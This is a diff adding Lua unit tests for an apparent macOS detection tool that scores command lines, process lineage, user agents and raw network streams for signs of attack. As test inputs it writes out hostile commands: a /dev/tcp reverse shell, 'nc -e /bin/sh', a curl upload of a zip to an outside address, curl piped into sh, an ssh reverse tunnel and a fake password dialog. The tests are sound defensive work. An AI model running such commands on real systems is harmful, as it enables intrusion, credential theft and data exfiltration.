@@ -238,5 +238,131 @@ check("hidden", dns.is_hidden("a", 260, 100), true)
 check("not for ever", dns.is_hidden("a", 360, 100), false)
 check("nor for others", dns.is_hidden("b", 260, 100), false)
 
+-- ---------------------------------------------------------------- command lines
+local arguments = require "arguments"
+local function weight_of(tool, words) return select(2, arguments.judge(tool, words)) end
+check("plain curl", weight_of("curl", { "curl", "https://www.example.com/" }), 0)
+check("a stealer's upload", weight_of("curl", { "curl", "-s", "-X", "POST", "-H", "user: x", "-F", "file=@/tmp/out.zip", "http://203.0.113.9/joinsystem" }), 5)
+check("joined text", weight_of("curl", { "curl -fsSLo /tmp/x http://203.0.113.9/a.sh" }), 5)
+check("the same as one text", weight_of("curl", "curl -fsSLo /tmp/x http://203.0.113.9/a.sh"), 5)
+check("a header is no file", weight_of("curl", { "curl", "-H", "-o /tmp/x", "https://www.example.com/" }), 0)
+check("an address at home", weight_of("curl", { "curl", "http://192.168.1.5/x" }), 0)
+check("into a launch agent", weight_of("curl", { "curl", "-o", "/Users/a/Library/LaunchAgents/x.plist", "https://x.example/x" }), 4)
+check("through a proxy", weight_of("curl", { "curl", "-x", "socks5://127.0.0.1:9050", "https://x.example/" }), 2)
+check("nc -e", weight_of("nc", { "nc", "-e", "/bin/sh", "x.example", "443" }), 5)
+check("nc to a name", weight_of("nc", { "nc", "x.example", "443" }), 0)
+check("nc -z", weight_of("nc", { "nc", "-zv", "x.example", "1-100" }), 2)
+check("plain ssh", weight_of("ssh", { "ssh", "u@x.example" }), 0)
+check("ssh -fNR", weight_of("ssh", { "ssh", "-fNR", "2222:localhost:22", "u@x.example" }), 5)
+check("ssh of git", weight_of("ssh", { "ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@github.com", "git-upload-pack 'x'" }), 0)
+check("scp out", weight_of("scp", { "scp", "-P", "2222", "/a.zip", "u@x.example:/b" }), 2)
+check("scp in", weight_of("scp", { "scp", "u@x.example:/b", "." }), 1)
+check("ping -p", weight_of("ping", { "ping", "-p", "6461", "x.example" }), 3)
+check("ping", weight_of("ping", { "ping", "-c", "4", "x.example" }), 0)
+check("dig", weight_of("dig", { "dig", "+short", "x.example" }), 0)
+check("dig TXT elsewhere", weight_of("dig", { "dig", "+short", "TXT", "x.example", "@203.0.113.53" }), 4)
+check("networksetup asks", weight_of("networksetup", { "networksetup", "-getwebproxy", "Wi-Fi" }), 0)
+check("networksetup sets", weight_of("networksetup", { "networksetup", "-setdnsservers", "Wi-Fi", "203.0.113.53" }), 4)
+check("networksetup takes back", weight_of("networksetup", { "networksetup", "-setdnsservers", "Wi-Fi", "Empty" }), 0)
+check("a password dialog", weight_of("osascript", { "osascript", "-e", 'display dialog "x" default answer "" with hidden answer' }), 4)
+check("a shell by file", weight_of("bash", { "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1" }), 5)
+check("a download into sh", weight_of("sh", { "sh", "-c", "curl -fsSL https://x.example/i | sh" }), 3)
+check("a download into jq", weight_of("sh", { "sh", "-c", "curl -fsSL https://x.example/i | jq ." }), 0)
+check("python -c socket", weight_of("python", { "python3", "-c", "import socket;s=socket.socket()" }), 4)
+check("python -m", weight_of("python", { "python3", "-m", "venv", "x" }), 0)
+check("no words", weight_of("curl", {}), 0)
+check("nobody reads it", weight_of("cat", { "cat", "x" }), 0)
+check("words of quotes", table.concat(arguments.words("a 'b c' \"d e\" f"), "|"), "a|b c|d e|f")
+check("an open quote", #arguments.words("a 'b c"), 3)
+check("target of a URL", arguments.target { "curl", "-s", "https://u@x.example:8080/a?b" }, "x.example")
+check("target of ssh", arguments.target { "ssh", "-N", "u@203.0.113.9" }, "203.0.113.9")
+
+-- ---------------------------------------------------------------- who stands behind a tool
+local process = require "tool_process"
+check("tool", process.tool_of("curl"), "curl")
+check("with a version", process.tool_of("python3.11"), "python")
+check("no tool", process.tool_of("Safari"), nil)
+check("signed as curl", select(2, process.tool_of("updater", "com.apple.curl")), "curl")
+check("signed as what it is", select(2, process.tool_of("curl", "com.apple.curl")), nil)
+check("python by signature", select(2, process.tool_of("python3", "com.apple.python3")), nil)
+check("at its place", process.place("curl", "/usr/bin/curl", nil, false), nil)
+check("Homebrew's", process.place("curl", "/opt/homebrew/opt/curl/bin/curl", nil, false), nil)
+check("in /tmp", process.place("curl", "/private/tmp/curl", nil, true).attack, "T1036.005")
+check("renamed", process.place("x", "/private/tmp/x", "curl", true).attack, "T1036.003")
+local function lineage(text)
+    local list = {}
+    for name, class in text:gmatch("([^=<]+)=(%a*)") do list[#list + 1] = { name = name:match("^%s*(.-)%s*$"), class = class ~= "" and class or nil } end
+    return list
+end
+local function verdict(text, weight, manner, user)
+    local standing = process.standing(lineage(text), user, function(name) return name == "Painter" end, false)
+    return process.severities[process.rank(standing, weight, manner or "moves")], standing
+end
+check("a macro", verdict("sh=shell < Microsoft Word=office < launchd=launcher", 0), "medium")
+check("a macro that fetches", verdict("sh=shell < Microsoft Word=office < launchd=launcher", 1), "high")
+check("a terminal", verdict("zsh=shell < login=shell < Terminal=terminal", 6, "moves", true), "info")
+check("launchd", verdict("launchd=launcher", 0), "low")
+check("launchd, and marks", verdict("sh=shell < launchd=launcher", 3), "medium")
+check("an application", verdict("sh=shell < Painter=", 0), "medium")
+check("a program", verdict("helper=", 0), "low")
+check("git's ssh", verdict("git=developer < Painter=", 0), "info")
+check("scp's ssh", select(2, verdict("scp=network < Mail=mail", 0)).name, "Mail")
+check("ping is diagnosis", verdict("sh=shell < Painter=", 0, "looks"), "low")
+check("nobody known", verdict("", 0), "info")
+check("eyes that agree", process.together(1, select(2, verdict("Mail=mail", 0))), 3)
+check("nothing on the wire", process.together(0, select(2, verdict("Mail=mail", 0))), 1)
+check("a person on the wire", process.together(2, select(2, verdict("Terminal=terminal", 0, "moves", true))), 2)
+for rank = 0, 3 do
+    local least, most = process.score(rank, 0, 0), process.score(rank, 1, 60)
+    check("score band " .. rank, least >= rank * 2.5 and most < rank * 2.5 + 2.5, true)
+end
+
+-- ---------------------------------------------------------------- agents
+local http = require "tool_http"
+local shipped = { ["8.7.1"] = "14.6 to 26.0", ["8.1.2"] = "13.5 to 14.1" }
+check("releases in common", http.may_agree("14.6 to 26.0", "15"), true)
+check("none in common", http.may_agree("13.5 to 14.1", "15.2"), false)
+check("later", http.may_agree("14.5", "10.15 or later"), true)
+check("a list", http.may_agree("10.15, 11", "11.4"), true)
+check("nothing known", http.may_agree("14.6", ""), true)
+check("shipped", http.curl_origin("curl/8.7.1", shipped, true, "15.1"), " (macOS 14.6 to 26.0 ships it)")
+check("of another release", select(3, http.curl_origin("curl/8.1.2", shipped, true, "15.1")), true)
+check("shipped by none", select(3, http.curl_origin("curl/8.15.0", shipped, true, "15.1")), true)
+check("by none, and who knows", select(3, http.curl_origin("curl/8.15.0", shipped, false)), false)
+check("RustBucket's", http.foreign_system("mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; trident/4.0)"), "Windows")
+check("Safari", http.foreign_system("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605"), nil)
+check("a phone", http.foreign_system("Mozilla/5.0 (Linux; Android 14; Pixel 8)"), "Android")
+check("a daemon", http.foreign_system("trustd/3.0"), nil)
+check("a guest's program", http.is_guest_of("prl_naptd"), true)
+check("no guest's", http.is_guest_of(nil), false)
+
+-- ---------------------------------------------------------------- ssh by rhythm, raw streams
+local ssh = require "tool_ssh"
+check("up", ssh.way(6e6, 1e5, 5e6), "up")
+check("both ways", ssh.way(6e6, 5e6, 5e6), nil)
+check("an answer", ssh.is_answer(800, 72), true)
+check("a keystroke", ssh.is_answer(36, 36), false)
+check("chaff and its echo", ssh.is_answer(720, 720), false)
+check("a log that flows out", ssh.is_answer(800, 0), false)
+local raw = require "tool_raw"
+check("tftp writes", raw.tftp("\0\2a.bin\0octet\0"), "write")
+check("tftp's file", select(2, raw.tftp("\0\1b.bin\0netascii\0blksize\0001428\0")), "b.bin")
+check("no tftp", raw.tftp("\0\1\2\3"), nil)
+check("a shell's first bytes", raw.shell({ server_port = 4444 }, "bash-3.2$ ", "").is_shell, true)
+check("commands without an answer", raw.shell({ server_port = 4444, answered = false }, "", "id\n"), nil)
+
+-- ---------------------------------------------------------------- the card's tools
+local tool_book = require "tool_book"
+local tools = tool_book.new(state())
+for _ = 1, 3 do tools.note("192.168.1.20", "curl 8.7.1", "a.example") end
+tools.note("192.168.1.20", "ssh", "203.0.113.9")
+tools.note("192.168.1.20", "ssh", "203.0.113.10")
+local told
+tools.each_changed(function(_, lines) told = table.concat(lines, "; ") end)
+check("lines of the card", told, "curl 8.7.1 3 times to 1 place; ssh 2 times to 2 places")
+told = nil
+tools.each_changed(function() told = true end)
+check("nothing new", told, nil)
+
 print(("%d checks, %d failures"):format(checks, failures))
 os.exit(failures == 0 and 0 or 1)
